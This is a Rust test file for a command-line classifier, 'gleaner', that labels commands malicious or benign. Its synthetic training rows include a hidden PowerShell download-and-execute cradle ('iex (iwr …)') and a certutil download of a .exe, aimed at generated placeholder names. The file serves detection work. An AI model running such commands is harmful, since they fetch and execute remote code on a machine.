//! Classifiers that leave by `gleaner export`: ONNX Runtime scores as we do, and `XGBoost` on an export comes to our AUC.

use std::path::PathBuf;

use gleaner_classifier::model::Classifier;
use gleaner_classifier::text::Lines;
use serde_json::{Value, json};

use crate::exports::{csv, python, script};
use crate::support::{Dir, skip, succeeds};

/// A training set of two classes that take some telling apart, and a test of others.
pub fn classes(dir: &Dir) -> (String, String) {
    // Lines differ in letters, so that no two share a template.
    let row = |place: &str, n: usize| {
        let letter = |n: usize| char::from(b'a' + u8::try_from(n % 26).unwrap());
        let name = format!(
            "{place}{}{}{}",
            letter(n),
            letter(n / 26),
            letter(n / 7 + 3)
        );
        let (line, malicious) = match n % 5 {
            0 => (
                format!("powershell -nop -w hidden -c iex (iwr {name})"),
                true,
            ),
            1 => (
                format!("powershell -Command Get-Service -Name {name} | Restart-Service"),
                false,
            ),
            2 => (format!("certutil -urlcache -f {name} {name}.exe"), true),
            3 => (format!("git commit -m {name} --path src/{name}"), false),
            // Either, so that probabilities lie between.
            _ => (
                format!("curl -o {name} --user-agent {name}"),
                n.is_multiple_of(3),
            ),
        };
        (line, if malicious { "malicious" } else { "benign" })
    };
    let rows: Vec<(String, &str)> = (0..600).map(|n| row("base", n)).collect();
    let test: Vec<(String, &str)> = (0..200).map(|n| row("test", n)).collect();
    (
        dir.write("train.csv", csv(&rows)),
        dir.write("test.csv", csv(&test)),
    )
}

#[test]
fn onnxruntime_scores_an_export_as_we_do() {
    let dir = Dir::new();
    let (train, test) = classes(&dir);
    let python = python("ONNX Runtime on exports");
    for family in ["boosting", "linear"] {
        let model = dir.join(&format!("{family}.model"));
        let named = format!("t={test}");
        succeeds(&[
            "evaluate",
            "lift",
            "--baseline",
            &train,
            "--test",
            &named,
            "--families",
            family,
            "--bootstrap",
            "1",
            "--save",
            &model,
        ]);
        let (rows, graph) = (
            dir.join(&format!("{family}-rows")),
            dir.join(&format!("{family}-onnx")),
        );
        succeeds(&[
            "export",
            "--format",
            "libsvm",
            "--baseline",
            &train,
            "--test",
            &test,
            "--classifier",
            &model,
            "--out",
            &rows,
        ]);
        succeeds(&[
            "export",
            "--format",
            "onnx",
            "--classifier",
            &model,
            "--out",
            &graph,
        ]);
        let texts: Vec<String> = texts(&test);
        let (classifier, _) = Classifier::from_bytes(&std::fs::read(&model).unwrap()).unwrap();
        let read = Lines::read(&texts, &[], 0).unwrap();
        let scores = classifier
            .score(&read, &(0..texts.len()).collect::<Vec<_>>())
            .unwrap();
        assert!(
            scores.iter().any(|s| (0.05..0.95).contains(s)),
            "{family} has nothing in doubt"
        );
        let expected = dir.write(&format!("{family}.json"), json!(scores).to_string());
        if let Some(python) = &python {
            let said = script(
                python,
                "exports/exports.py",
                &["scores", &rows, &graph, &expected],
            );
            assert!(said.contains("onnxruntime: 200 rows"), "{said}");
        }
    }
}

fn texts(file: &str) -> Vec<String> {
    let out = succeeds(&[
        "sql",
        "--json",
        &format!("SELECT command_line FROM '{file}'"),
    ]);
    out.lines()
        .map(|line| {
            let row: Value = serde_json::from_str(line).unwrap();
            row["command_line"].as_str().unwrap().to_owned()
        })
        .collect()
}

/// Trains both on the same rows and columns of recorded lines, and says how their AUCs stand.
fn beside_xgboost(share: &str, seeds: u64) {
    let beside = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/data");
    let data = std::env::var_os("GLEANER_DATA").map_or(beside, PathBuf::from);
    if !data.join("commands_benign.parquet").is_file() {
        return skip("XGBoost on an export: no labelled commands: set GLEANER_DATA");
    }
    let Some(python) = python("XGBoost on an export") else {
        return;
    };
    let dir = Dir::new();
    let of = |kind: &str| {
        let file = data.join(format!("commands_{kind}.parquet"));
        format!(
            "SELECT command_line, '{kind}' AS kind FROM '{}' WHERE NOT ambiguous",
            file.display()
        )
    };
    let all = format!(
        "SELECT command_line, min(kind) AS label FROM ({} UNION ALL {}) GROUP BY command_line HAVING min(kind) = max(kind)",
        of("benign"),
        of("malicious")
    );
    let part = |name: &str, condition: &str| {
        let out = dir.join(name);
        succeeds(&[
            "sql",
            &format!(
                "COPY (SELECT * FROM ({all}) WHERE {share} AND substr(cmd_hash(command_line), 1, 1) {condition} ORDER BY command_line) TO '{out}' STORED AS PARQUET"
            ),
        ]);
        out
    };
    let train = part("train.parquet", "NOT IN ('0', '1', '2', '3')");
    let test = part("test.parquet", "IN ('0', '1', '2', '3')");
    let mut args = vec![];
    for seed in 1..=seeds {
        let model = dir.join(&format!("{seed}.model"));
        let seed = seed.to_string();
        let named = format!("t={test}");
        succeeds(&[
            "evaluate",
            "lift",
            "--baseline",
            &train,
            "--test",
            &named,
            "--families",
            "boosting",
            "--bootstrap",
            "1",
            "--seed",
            &seed,
            "--save",
            &model,
        ]);
        let out = dir.join(&format!("json-{seed}"));
        succeeds(&[
            "export",
            "--format",
            "json",
            "--classifier",
            &model,
            "--out",
            &out,
        ]);
        args.extend(["--classifier".to_owned(), format!("{out}/classifier.json")]);
    }
    let rows = dir.join("rows");
    // The n-grams are chosen on the training rows: the same, whatever the seed.
    succeeds(&[
        "export",
        "--format",
        "libsvm",
        "--baseline",
        &train,
        "--test",
        &test,
        "--classifier",
        &dir.join("1.model"),
        "--out",
        &rows,
    ]);
    let seeds = seeds.to_string();
    let mut all = vec![rows.as_str(), "--seeds", &seeds];
    all.extend(args.iter().map(String::as_str));
    let said = script(&python, "../scripts/xgboost_on_export.py", &all);
    println!("{said}");
    let said: Value = serde_json::from_str(&said).unwrap();
    let difference = said["difference"].as_f64().unwrap();
    assert!(difference.abs() <= 0.005, "{said}");
    assert!(said["gleaner_auc_mean"].as_f64().unwrap() > 0.9, "{said}");
}

#[test]
fn xgboost_on_an_export_of_a_part_of_the_recorded_lines_has_our_auc() {
    beside_xgboost(
        "substr(cmd_hash(command_line), 2, 1) IN ('0', '1', '2', '3')",
        3,
    );
}

#[test]
#[ignore = "two minutes: cargo test --workspace --test it -- --ignored --nocapture xgboost_on_an_export_of_all"]
fn xgboost_on_an_export_of_all_recorded_lines_has_our_auc() {
    beside_xgboost("true", 5);
}
